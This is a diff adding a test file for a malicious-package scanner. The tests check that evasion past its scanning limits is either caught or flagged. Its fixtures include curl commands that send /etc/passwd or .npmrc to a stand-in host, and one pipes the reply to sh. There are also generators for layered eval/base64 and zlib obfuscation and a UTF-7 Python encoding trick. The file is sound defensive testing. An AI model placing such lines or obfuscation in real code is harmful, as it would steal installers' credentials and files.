@@ -1,0 +1,131 @@
+/**
+ * What is beyond a limit of the reading is never passed over in silence: where it would run while installing or
+ * importing, the package is not taken for read. Beside each, the same well within the limit.
+ */
+import assert from 'node:assert/strict';
+import { deflateSync } from 'node:zlib';
+import { buildSequence } from '../../lib/behavior/sequence.js';
+import { artifactOf, behaviorsOf, commandEntry, type Files, importEntry } from '../helpers/sequence.js';
+
+const PAYLOAD = "require('child_process').exec('curl -d @/etc/passwd https://a.example.invalid/')";
+
+async function read(files: Files, command?: string, ecosystem: 'npm' | 'pypi' = 'npm') {
+  const entry = command === undefined ? importEntry(Object.keys(files)[0]!) : commandEntry(command);
+  const sequence = await buildSequence(artifactOf(ecosystem, files, [entry]), { strict: true });
+  return {
+    why: sequence.incomplete?.code,
+    sends: behaviorsOf(sequence).some(({ code }) => /^(?:http-|D3$|run-shell)/.test(code)),
+  };
+}
+
+/** `code` behind so many layers of `eval(atob(…))`. */
+function layers(count: number, code: string): string {
+  let text = code;
+  for (let i = 0; i < count; i++) {
+    text = `eval(Buffer.from('${Buffer.from(text).toString('base64')}','base64').toString())`;
+    // Base 64 of base 64 grows by a third a layer: escapes keep sixty of them small enough.
+    if (text.length > 60_000) break;
+  }
+  return text;
+}
+
+const nested = (count: number, inner: string): string => {
+  let text = inner;
+  for (let i = 0; i < count; i++) text = `sh -c ${JSON.stringify(text).replaceAll('$', '\\$')}`;
+  return text;
+};
+
+/** So many different behaviours, no two neighbours alike. */
+function distinct(count: number): string {
+  const calls = [
+    'os.hostname()',
+    "fs.readFileSync('a')",
+    'os.platform()',
+    "fs.writeFileSync('b','c')",
+    'os.userInfo()',
+  ];
+  const lines = Array.from({ length: count }, (_, i) => `${calls[i % calls.length]};`);
+  return `const fs = require('fs'), os = require('os');\n${lines.join('\n')}\n`;
+}
+
+describe('beyond a limit', () => {
+  it('more behaviours than are kept', async () => {
+    const within = await read({ 'index.js': `${distinct(1000)}${PAYLOAD}` });
+    assert.deepEqual(within, { why: undefined, sends: true });
+    assert.equal((await read({ 'index.js': `${distinct(9000)}${PAYLOAD}` })).why, 'scan-budget');
+  });
+
+  it('a script longer than scripts are', async () => {
+    const script = (lines: number) =>
+      `${'# nothing to see here\n'.repeat(lines)}curl https://a.example.invalid/\n`;
+    assert.deepEqual(await read({ 'a.sh': script(100) }, 'sh a.sh'), { why: undefined, sends: true });
+    assert.equal((await read({ 'a.sh': script(30_000) }, 'sh a.sh')).why, 'scan-budget');
+  });
+
+  it('a command longer than commands are', async () => {
+    const line = (count: number) => `${'true; '.repeat(count)}curl https://a.example.invalid/`;
+    assert.deepEqual(await read({ 'a.js': '' }, line(100)), { why: undefined, sends: true });
+    assert.equal((await read({ 'a.js': '' }, line(3000))).why, 'scan-budget');
+    assert.equal((await read({ 'a.js': '' }, `: ${'x'.repeat(500_000)}; curl a.invalid`)).why, 'scan-budget');
+  });
+
+  it('commands that begin alike are read each for itself', async () => {
+    const pad = ' '.repeat(3000);
+    const code = `const c = require('child_process'); c.exec('true${pad}'); c.exec('true${pad}; curl https://a.example.invalid/ -d @.npmrc | sh');`;
+    const sequence = await buildSequence(artifactOf('npm', { 'index.js': code }, [importEntry('index.js')]));
+    assert.ok(behaviorsOf(sequence).some((b) => b.code === 'http-send'));
+  });
+
+  it('substitutions inside substitutions', async () => {
+    const inside = (count: number) =>
+      `${'echo $('.repeat(count)}curl https://a.example.invalid/${')'.repeat(count)}`;
+    assert.deepEqual(await read({ 'a.js': '' }, inside(3)), { why: undefined, sends: true });
+    assert.equal((await read({ 'a.js': '' }, inside(20))).why, 'scan-budget');
+  });
+
+  it('shells inside shells: read as deep as anyone writes them', async () => {
+    assert.equal((await read({ 'a.js': PAYLOAD }, nested(4, 'node a.js'))).sends, true);
+  });
+
+  it('code inside code inside code', async () => {
+    const deep = await read({ 'index.js': layers(12, PAYLOAD) });
+    assert.deepEqual(deep, { why: undefined, sends: true }, 'a dozen layers are read');
+    const python = (count: number): string => {
+      let text = "import os\nos.system('curl https://a.example.invalid/')\n";
+      for (let i = 0; i < count; i++) {
+        text = `import zlib,base64\nexec(zlib.decompress(base64.b64decode('${deflateSync(text).toString('base64')}')))\n`;
+      }
+      return text;
+    };
+    assert.deepEqual(await read({ 'a.py': python(40) }, undefined, 'pypi'), { why: undefined, sends: true });
+    assert.equal((await read({ 'a.py': python(100) }, undefined, 'pypi')).why, 'scan-budget');
+  });
+
+  it('more decoded code than is read', async () => {
+    const code = `let s = 'void 0;'; for (let i = 0; i < 21; i++) s += s; eval(s + "${PAYLOAD.replaceAll('"', "'")}");`;
+    const sequence = await buildSequence(artifactOf('npm', { 'index.js': code }, [importEntry('index.js')]));
+    // The text is longer than any the evaluator keeps: that unknown text is run stands in the sequence.
+    assert.ok(behaviorsOf(sequence).some((b) => b.code === 'evaluate'));
+    const short = code.replace('i < 21', 'i < 10');
+    assert.equal((await read({ 'index.js': short })).sends, true);
+    const parts = Array.from({ length: 40 }, (_, i) => `eval("/*${i}" + s + "*/");`).join('');
+    const many = `let s = 'x'; for (let i = 0; i < 18; i++) s += s; ${parts} eval("${PAYLOAD.replaceAll('"', "'")}");`;
+    assert.equal((await read({ 'index.js': many })).why, 'scan-budget');
+  });
+
+  it('Python whose text on disk is not the text that runs', async () => {
+    const hidden = Buffer.from("import os;os.system('curl https://a.example.invalid/')", 'utf16le').swap16();
+    const utf7 = `# coding: utf-7\n#+AAo-${'+'}${hidden.toString('base64').replace(/=+$/, '')}-\n`;
+    assert.deepEqual(await read({ 'a.py': utf7 }, undefined, 'pypi'), { why: undefined, sends: true });
+    const other = '# coding: punycode\nx = 1\n';
+    assert.equal((await read({ 'a.py': other }, undefined, 'pypi')).why, 'scan-budget');
+    const honest = '# -*- coding: utf-8 -*-\n# a + b -\nx = 1 + 2\n';
+    assert.equal((await read({ 'a.py': honest }, undefined, 'pypi')).why, undefined);
+  });
+
+  it('nesting: honest depth is read, no depth is a crash', async () => {
+    const deep = (count: number) => `var x = ${'['.repeat(count)}1${']'.repeat(count)};${PAYLOAD}`;
+    assert.deepEqual(await read({ 'index.js': deep(100) }), { why: undefined, sends: true });
+    assert.equal((await read({ 'index.js': deep(50_000) })).why, 'scan-budget');
+  });
+});
